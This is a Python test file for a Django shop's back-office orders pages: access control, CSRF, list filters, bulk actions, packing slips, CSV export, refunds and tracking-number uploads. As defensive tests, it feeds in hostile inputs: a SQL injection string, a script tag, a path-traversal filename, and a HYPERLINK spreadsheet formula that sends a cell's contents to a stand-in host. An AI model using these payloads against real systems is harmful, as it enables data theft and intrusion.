"""The orders pages: permissions, CSRF, filters, bulk actions, the order
page and its forms, the tracking upload. Bad input: 400, nothing changed."""

import csv
import io
from datetime import timedelta

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from pypdf import PdfReader

from kedai.orders.models import Order, OrderEvent, OrderStatus
from kedai.payments.models import Payment
from kedai.shipping.models import Shipment, ShipmentParcel
from tests.backoffice.orders.conftest import pay, place

pytestmark = pytest.mark.django_db
LIST = "/office/orders/"


def detail(order: Order) -> str:
    return f"/office/orders/o/{order.number}/"


def pdf_text(content: bytes) -> tuple[int, str]:
    reader = PdfReader(io.BytesIO(content))
    return len(reader.pages), "\n".join(p.extract_text() for p in reader.pages)


def page_text(response) -> str:
    return response.content.decode()


# --- who may come in ---------------------------------------------------------------


def test_anonymous_visitors_are_sent_to_sign_in(client):
    order = place()
    for url in (LIST, detail(order), f"{detail(order)}slip.pdf"):
        response = client.get(url)
        assert response.status_code == 302
        assert response["Location"].startswith("/office/login/?next=")
    response = client.post(f"{detail(order)}note/", {"note": "hi"})
    assert response.status_code == 302
    assert not OrderEvent.objects.filter(note="hi").exists()


def test_staff_without_the_orders_permission_get_403(client, no_orders_user):
    order = pay(place())
    client.force_login(no_orders_user)
    for url in (LIST, detail(order), f"{detail(order)}slip.pdf",
                "/office/orders/tracking/upload/"):
        assert client.get(url).status_code == 403
    response = client.post(f"{detail(order)}fulfil/",
                           {"carrier": "poslaju", "tracking": "ER123456789MY"})
    assert response.status_code == 403
    assert client.post("/office/orders/bulk/", {"action": "mark_packed",
                                                "orders": [order.number]}
                       ).status_code == 403
    order.refresh_from_db()
    assert order.status == OrderStatus.PAID


def test_the_staff_role_sees_the_orders_section(office):
    assert office.get(LIST).status_code == 200
    assert f'href="{LIST}"' in page_text(office.get("/office/"))


def test_forms_need_the_csrf_token(staff):
    order = pay(place())
    strict = Client(enforce_csrf_checks=True)
    strict.force_login(staff)
    assert strict.get(detail(order)).status_code == 200
    for url, data in [
        (f"{detail(order)}fulfil/", {"carrier": "poslaju", "tracking": "ER1234567MY"}),
        (f"{detail(order)}note/", {"note": "x"}),
        (f"{detail(order)}cancel/", {"reason": "x"}),
        ("/office/orders/bulk/", {"action": "mark_packed", "orders": order.number}),
    ]:
        assert strict.post(url, data).status_code == 403
    order.refresh_from_db()
    assert order.status == OrderStatus.PAID
    assert not Shipment.objects.exists()


def test_changes_are_refused_by_get(office):
    order = pay(place())
    for action in ("fulfil", "note", "cancel", "status", "refund", "paid"):
        assert office.get(f"{detail(order)}{action}/").status_code == 405


# --- the list ------------------------------------------------------------------------


def numbers_listed(response) -> list[str]:
    return [o.number for o in response.context["page"]]


def test_filters_narrow_the_list(office):
    awaiting = place(name="Nurul Huda", phone="+60112223333", email="nurul@x.my")
    paid = pay(place())
    shipped = pay(place(method="cod"))
    office.post(f"{detail(shipped)}fulfil/",
                {"carrier": "skynet", "tracking": "SK12345678"})
    old = place()
    Order.objects.filter(pk=old.pk).update(
        created_at=timezone.now() - timedelta(days=40))

    def listed(**query):
        return set(numbers_listed(office.get(LIST, query)))

    assert listed(status="paid") == {paid.number}
    assert listed(payment="paid") == {paid.number, shipped.number}
    assert listed(payment="unpaid") == {awaiting.number, old.number}
    assert listed(fulfilment="shipped") == {shipped.number}
    assert listed(fulfilment="unfulfilled") == {awaiting.number, paid.number,
                                                old.number}
    assert listed(carrier="skynet") == {shipped.number}
    assert listed(method="cod") == {shipped.number}
    assert listed(q="nurul") == {awaiting.number}
    assert listed(q="011-222 3333") == {awaiting.number}
    assert listed(q=paid.number.lower()) == {paid.number}
    since = (timezone.localdate() - timedelta(days=30)).isoformat()
    assert old.number not in listed(date_from=since)
    assert listed(date_to=(timezone.localdate() - timedelta(days=35)).isoformat()) \
        == {old.number}


def test_bad_filter_values_are_ignored_not_errors(office):
    place()
    response = office.get(LIST, {"status": "nonsense", "date_from": "31-02-2026",
                                 "q": "' OR 1=1--", "page": "x"})
    assert response.status_code == 200
    assert numbers_listed(response) == []


def test_the_list_costs_the_same_queries_for_3_or_12_orders(office):
    """No N+1: payment and fulfilment states are annotations, shipments
    are prefetched."""
    def count() -> int:
        with CaptureQueriesContext(connection) as queries:
            assert office.get(LIST).status_code == 200
        return len(queries)

    for _ in range(3):
        order = pay(place())
        office.post(f"{detail(order)}fulfil/",
                    {"carrier": "poslaju", "tracking": f"ER{order.pk:09d}MY"})
    small = count()
    for _ in range(9):
        order = pay(place())
        office.post(f"{detail(order)}fulfil/",
                    {"carrier": "poslaju", "tracking": f"ER{order.pk:09d}MY"})
    assert count() == small
    assert small <= 10


# --- bulk actions -------------------------------------------------------------------


def bulk(office, action, orders, **extra):
    return office.post("/office/orders/bulk/", {
        "action": action, "orders": [o.number for o in orders], **extra})


def test_bulk_mark_paid_and_packed(office):
    first, second = place(), place(method="cod")
    response = bulk(office, "mark_paid", [first, second], reference="MBB-77")
    assert response.status_code == 302
    for order in (first, second):
        order.refresh_from_db()
        assert order.status == OrderStatus.PAID
        assert order.events.last().actor == "aisyah"
    bulk(office, "mark_packed", [first, second])
    first.refresh_from_db()
    assert first.status == OrderStatus.PROCESSING


def test_bulk_mark_paid_refuses_an_online_order_and_says_so(office):
    online, offline = place(method="billplz"), place()
    response = bulk(office, "mark_paid", [online, offline], reference="R1")
    page = page_text(office.get(response["Location"]))
    assert f"{online.number} is paid online" in page
    assert not Payment.objects.exists()


def test_bulk_with_nothing_selected_or_unknown_numbers_changes_nothing(office):
    order = pay(place())
    response = bulk(office, "mark_packed", [])
    assert "Select at least one order" in page_text(office.get(response["Location"]))
    response = office.post("/office/orders/bulk/", {
        "action": "mark_packed", "orders": [order.number, "KD-2026-999999"]})
    assert "No such order: KD-2026-999999" in page_text(
        office.get(response["Location"]))
    order.refresh_from_db()
    assert order.status == OrderStatus.PAID


def test_packing_slips_several_orders_in_one_pdf(office):
    orders = [pay(place()) for _ in range(3)]
    response = bulk(office, "slips", orders)
    assert response["Content-Type"] == "application/pdf"
    assert "attachment" in response["Content-Disposition"]
    pages, text = pdf_text(response.content)
    assert pages == 3
    for order in orders:
        assert order.number in text
    assert "Siti Aminah" in text and "SKU-" in text


def test_address_labels_are_eight_to_a_sheet(office):
    orders = [place() for _ in range(9)]
    pages, text = pdf_text(bulk(office, "labels", orders).content)
    assert pages == 2
    assert all(order.number in text for order in orders)
    assert "50450 Kuala Lumpur" in text


def test_export_escapes_formulas_but_not_numbers(office):
    hostile = place(name="=HYPERLINK(\"http://x/?\"&A1,\"x\")")
    plain = place()
    response = bulk(office, "export", [hostile, plain])
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    assert [r["Order number"] for r in rows] == [hostile.number, plain.number]
    assert rows[0]["Name"] == "'=HYPERLINK(\"http://x/?\"&A1,\"x\")"
    assert rows[0]["Phone"] == "'+60123456789"
    assert rows[1]["Total"] == str(plain.total)


def test_bulk_tracking_form_records_every_order_or_none(office):
    first, second = pay(place()), pay(place())
    form = bulk(office, "tracking", [first, second])
    assert form.status_code == 200
    assert page_text(form).count('name="tracking"') == 2
    data = {"order": [first.number, second.number], "carrier": ["poslaju", "jnt"],
            "tracking": ["ER100000001MY", "ER100000001MY"]}
    refused = office.post("/office/orders/tracking/", data)
    assert refused.status_code == 400
    assert "also on row 1" in page_text(refused)
    assert not Shipment.objects.exists()
    data["tracking"] = ["ER100000001MY", "JT100000002"]
    done = office.post("/office/orders/tracking/", data)
    assert done.status_code == 302
    assert set(Shipment.objects.values_list("carrier", flat=True)) == {"poslaju", "jnt"}


# --- the order page -----------------------------------------------------------------


def test_order_page_shows_timeline_customer_lines_payments_and_documents(office):
    order = pay(place())
    office.post(f"{detail(order)}note/", {"note": "Wrap as a gift <b>please</b>"})
    response = office.get(detail(order))
    page = page_text(response)
    assert order.number in page and "Siti Aminah" in page
    assert "Wrap as a gift &lt;b&gt;please&lt;/b&gt;" in page
    assert "aisyah" in page
    assert order.lines.get().sku in page
    assert Payment.objects.get(order=order).reference in page
    document = order.documents.first()
    assert document is not None
    assert f"documents/{document.number}.pdf" in page
    pdf = office.get(f"{detail(order)}documents/{document.number}.pdf")
    assert pdf["Content-Type"] == "application/pdf"
    assert office.get(f"{detail(order)}documents/INV-0000-999999.pdf"
                      ).status_code == 404


def test_unknown_order_is_404(office):
    assert office.get("/office/orders/o/KD-2026-999999/").status_code == 404


def test_fulfil_with_a_scanned_number_then_the_page_links_tracking(office):
    order = pay(place())
    response = office.post(f"{detail(order)}fulfil/",
                           {"carrier": "poslaju", "tracking": " er123456789my\r\n",
                            "more": "ER123456790MY\nER123456791MY"})
    assert response.status_code == 303
    order.refresh_from_db()
    assert order.status == OrderStatus.SHIPPED
    assert ShipmentParcel.objects.count() == 3
    page = page_text(office.get(detail(order)))
    assert "https://tracking.pos.com.my/tracking/ER123456789MY" in page
    assert "Shipped: 3 parcel(s) recorded" in page


@pytest.mark.parametrize(("data", "message"), [
    ({"carrier": "pony", "tracking": "ER123456789MY"}, "Choose a carrier"),
    ({"carrier": "poslaju", "tracking": ""}, "Choose a carrier"),
    ({"carrier": "poslaju", "tracking": "<script>"}, "is not a tracking number"),
])
def test_bad_fulfil_input_is_refused(office, data, message):
    order = pay(place())
    response = office.post(f"{detail(order)}fulfil/", data)
    assert response.status_code == 400
    assert message in page_text(response)
    assert "<script>" not in page_text(response).split("<main")[1].split(
        "</main>")[0].replace('<script src', '')
    assert not Shipment.objects.exists()


def test_a_tracking_number_of_another_order_is_refused(office):
    first, second = pay(place()), pay(place())
    office.post(f"{detail(first)}fulfil/", {"carrier": "poslaju",
                                            "tracking": "ER123456789MY"})
    response = office.post(f"{detail(second)}fulfil/",
                           {"carrier": "poslaju", "tracking": "ER123456789MY"})
    assert response.status_code == 400
    assert f"already recorded for order {first.number}" in page_text(response)
    second.refresh_from_db()
    assert second.status == OrderStatus.PAID


def test_status_actions_follow_the_transitions(office):
    order = pay(place())
    assert office.post(f"{detail(order)}status/", {"to": "processing"}
                       ).status_code == 303
    order.refresh_from_db()
    assert order.status == OrderStatus.PROCESSING
    refused = office.post(f"{detail(order)}status/", {"to": "delivered"})
    assert refused.status_code == 400
    assert "cannot become" in page_text(refused)
    assert office.post(f"{detail(order)}status/", {"to": "paid"}).status_code == 400
    order.refresh_from_db()
    assert order.status == OrderStatus.PROCESSING


def test_cancel_a_shipped_order_is_refused_clearly(office):
    order = pay(place())
    office.post(f"{detail(order)}fulfil/", {"carrier": "poslaju",
                                            "tracking": "ER123456789MY"})
    events = OrderEvent.objects.filter(order=order).count()
    response = office.post(f"{detail(order)}cancel/", {"reason": "Too late"})
    assert response.status_code == 400
    assert "An order that is “Shipped” cannot become “Cancelled”" in page_text(response)
    order.refresh_from_db()
    assert order.status == OrderStatus.SHIPPED
    assert OrderEvent.objects.filter(order=order).count() == events


def test_cancel_an_unpaid_order(office):
    order = place()
    response = office.post(f"{detail(order)}cancel/", {"reason": "Duplicate order",
                                                       "confirmed": "yes"})
    assert response.status_code == 303
    order.refresh_from_db()
    assert order.status == OrderStatus.CANCELLED
    assert order.events.last().actor == "aisyah"
    assert office.post(f"{detail(order)}cancel/", {"reason": ""}).status_code == 400


def test_mark_paid_on_the_order_page(office):
    order = place()
    assert office.post(f"{detail(order)}paid/", {"reference": ""}).status_code == 400
    assert office.post(f"{detail(order)}paid/", {"reference": "CIMB-9"}
                       ).status_code == 303
    order.refresh_from_db()
    assert order.status == OrderStatus.PAID


def test_refund_by_line_on_the_order_page(office):
    order = pay(place(items=(("20.00", 2),)))
    line = order.lines.get()
    response = office.post(f"{detail(order)}refund/", {
        f"qty_{line.pk}": "1", f"restock_{line.pk}": "on", "reason": "Torn",
        "manual": "on", "confirmed": "yes"})
    assert response.status_code == 303
    line.refresh_from_db()
    assert (line.quantity_refunded, line.quantity_restocked) == (1, 1)
    page = page_text(office.get(detail(order)))
    assert "Recorded as refunded by hand: RM20.00" in page and "Torn" in page


@pytest.mark.parametrize(("quantity", "shipping", "message"), [
    ("5", "", "Check the quantities"),
    ("-1", "", "Check the quantities"),
    ("abc", "", "Check the quantities"),
    ("2", "on", "At most RM20.00 is left to refund"),
])
def test_bad_refunds_on_the_order_page_change_nothing(office, quantity, shipping,
                                                      message):
    order = pay(place(items=(("20.00", 2),)))
    line = order.lines.get()
    office.post(f"{detail(order)}refund/", {f"qty_{line.pk}": "1",
                                            "reason": "First", "manual": "on",
                                            "include_shipping": "on",
                                            "confirmed": "yes"})
    payment = Payment.objects.get(order=order)
    data = {f"qty_{line.pk}": quantity, "reason": "Again", "manual": "on"}
    if shipping:
        data["include_shipping"] = "on"
        data[f"qty_{line.pk}"] = "1"
    response = office.post(f"{detail(order)}refund/", data)
    assert response.status_code == 400
    assert message in page_text(response)
    assert Payment.objects.get(order=order).refunded_amount == payment.refunded_amount
    line.refresh_from_db()
    assert line.quantity_refunded == 1


def test_slip_and_label_of_one_order(office):
    order = pay(place())
    slip = office.get(f"{detail(order)}slip.pdf")
    assert slip["Content-Type"] == "application/pdf"
    assert f'filename="packing-slip-{order.number}.pdf"' in slip["Content-Disposition"]
    assert order.number in pdf_text(slip.content)[1]
    assert order.number in pdf_text(office.get(f"{detail(order)}label.pdf").content)[1]


# --- tracking numbers by CSV ---------------------------------------------------------


def upload(office, text: str | bytes, name: str = "tracking.csv"):
    data = text.encode() if isinstance(text, str) else text
    file = io.BytesIO(data)
    file.name = name
    return office.post("/office/orders/tracking/upload/", {"file": file})


def test_upload_previews_then_applies_all_or_nothing(office):
    first, second = pay(place()), pay(place())
    text = ("Order number,Carrier,Tracking number\n"
            f"{first.number},Pos Laju,ER200000001MY\n"
            f"{second.number},Skynet,SK200000002\n"
            f"{second.number},Skynet,SK200000003\n")
    preview = upload(office, text)
    assert preview.status_code == 200
    page = page_text(preview)
    assert "3 rows read" in page and "0 errors" in page
    assert "ER200000001MY" in page and "SK200000002, SK200000003" in page
    assert not Shipment.objects.exists()  # a dry run

    rows = preview.context["apply_form"].initial["rows"]
    applied = office.post("/office/orders/tracking/upload/apply/", {"rows": rows})
    assert applied.status_code == 302
    assert Shipment.objects.count() == 2
    assert ShipmentParcel.objects.count() == 3
    second.refresh_from_db()
    assert second.status == OrderStatus.SHIPPED

    # Applying the same preview again: every number is recorded already.
    again = office.post("/office/orders/tracking/upload/apply/", {"rows": rows})
    assert again.status_code == 400
    assert "already recorded" in page_text(again)
    assert ShipmentParcel.objects.count() == 3


def test_upload_with_errors_lists_them_and_offers_no_apply(office):
    order = pay(place())
    text = ("order,carrier,tracking\n"
            f"{order.number},poslaju,ER300000001MY\n"
            "KD-2026-424242,poslaju,ER300000002MY\n"
            f"{order.number},hovercraft,ER300000003MY\n")
    preview = upload(office, text)
    assert preview.status_code == 400
    page = page_text(preview)
    assert "Row 3: there is no order KD-2026-424242" in page
    assert "Row 4: unknown carrier “hovercraft”" in page
    assert "tracking/upload/apply/" not in page
    # A forged apply with the bad rows is checked again and refused.
    rows = (f"2,{order.number},poslaju,ER300000001MY\n"
            "3,KD-2026-424242,poslaju,X1234567\n")
    refused = office.post("/office/orders/tracking/upload/apply/", {"rows": rows})
    assert refused.status_code == 400
    assert not Shipment.objects.exists()


@pytest.mark.parametrize(("data", "message"), [
    ("order,carrier,tracking\nKD-1,poslaju,caf\xe9\n".encode("latin-1"), "not UTF-8"),
    (b"\x89PNG\r\n\x1a\n\x00\x00\x00", "not a CSV"),
    (b"a,b,c\n1,2,3\n", "must name the columns"),
])
def test_upload_refuses_bad_files(office, data, message):
    response = upload(office, data, name="../../settings.py.csv")
    assert response.status_code == 400
    assert message in page_text(response)


def test_upload_page_and_empty_apply(office):
    assert office.get("/office/orders/tracking/upload/").status_code == 200
    assert office.post("/office/orders/tracking/upload/", {}).status_code == 400
    response = office.post("/office/orders/tracking/upload/apply/", {"rows": ""})
    assert response.status_code == 400
